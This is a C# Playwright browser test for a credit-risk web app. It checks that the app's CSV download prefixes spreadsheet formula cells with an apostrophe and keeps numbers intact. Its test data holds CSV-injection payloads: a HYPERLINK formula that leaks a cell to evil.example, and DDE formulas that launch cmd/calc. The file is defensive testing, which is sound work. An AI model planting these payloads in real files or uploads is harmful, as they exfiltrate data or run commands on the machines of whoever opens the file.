using System.Text;
using System.Text.Json;
using Microsoft.Playwright;
using nietras.SeparatedValues;

namespace CreditRisk.Browser.Tests;

/// <summary>
/// Issue 26, finding 5, in the page: "Download results as CSV" echoes the uploaded file's cells, so a cell a
/// spreadsheet would run as a formula comes back with a leading apostrophe (header included), and a number in a
/// numeric column stays as it was. The same rule as the server's text/csv answer (docs/security.md).
/// </summary>
[Collection(BrowserSuite.Name)]
public sealed class CsvDownloadTests(BrowserFixture fixture)
{
    private static readonly string[] FormulaCells =
    [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click for details\")",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    ];

    private static readonly string[] FormulaHeaders = ["=cmd|' /C calc'!A0", "@note"];

    [Fact]
    public async Task The_download_neutralises_formula_cells_and_headers_and_keeps_numbers()
    {
        var example = await FormFiller.ExampleAsync(fixture.Http);
        var names = fixture.Spec.Features.Select(f => f.Name).ToList();
        string Cell(string name) => name switch
        {
            "dependents" => "-0",
            "installmentRate" => "+4",
            _ => example.TryGetValue(name, out var v) && v.ValueKind != JsonValueKind.Null
                ? (v.ValueKind == JsonValueKind.String ? v.GetString()! : v.GetRawText())
                : "",
        };
        var csv = new StringBuilder();
        csv.Append(string.Join(',', names.Concat(FormulaHeaders).Select(Quote))).Append("\r\n");
        foreach (var hostile in FormulaCells)
        {
            csv.Append(string.Join(',', names.Select(Cell).Concat([hostile, hostile]).Select(Quote))).Append("\r\n");
        }

        await using var browser = await fixture.OpenAsync();
        var page = browser.Page;
        await browser.GotoScorePageAsync("#batch");
        await page.GetByLabel("CSV file of applicants").SetInputFilesAsync(new FilePayload
        {
            Name = "hostile.csv",
            MimeType = "text/csv",
            Buffer = Encoding.UTF8.GetBytes(csv.ToString()),
        });
        await page.GetByRole(AriaRole.Button, new() { Name = "Score file" }).ClickAsync();
        await page.Locator("#batch-result").WaitForAsync();
        var download = await page.RunAndWaitForDownloadAsync(() =>
            page.GetByRole(AriaRole.Button, new() { Name = "Download results as CSV" }).ClickAsync());
        var rows = Parse(await File.ReadAllTextAsync(await download.PathAsync()));

        var header = rows[0];
        Assert.Equal(FormulaHeaders.Select(h => "'" + h), header.Skip(names.Count).Take(FormulaHeaders.Length));
        Assert.Equal(FormulaCells.Length + 1, rows.Count);
        for (var r = 0; r < FormulaCells.Length; r++)
        {
            var row = rows[r + 1];
            Assert.Equal("'" + FormulaCells[r], row[names.Count]);
            Assert.Equal("'" + FormulaCells[r], row[names.Count + 1]);
            Assert.Equal("-0", row[names.IndexOf("dependents")]);
            Assert.Equal("+4", row[names.IndexOf("installmentRate")]);
            Assert.InRange(double.Parse(row[Array.IndexOf(header, "probabilityOfDefault")], System.Globalization.CultureInfo.InvariantCulture), 0, 1);
        }

        Assert.Empty(browser.ConsoleErrors);
    }

    private static string Quote(string cell) => "\"" + cell.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";

    /// <summary>The file as a spreadsheet would split it: RFC 4180 quoting, nothing trimmed (the page's download tests share it).</summary>
    internal static List<string[]> Parse(string csv)
    {
        using var reader = Sep.Reader(o => o with { HasHeader = false, Unescape = true, DisableColCountCheck = true }).FromText(csv);
        var rows = new List<string[]>();
        foreach (var row in reader)
        {
            var cells = new string[row.ColCount];
            for (var c = 0; c < cells.Length; c++)
            {
                cells[c] = row[c].ToString();
            }

            rows.Add(cells);
        }

        return rows;
    }
}
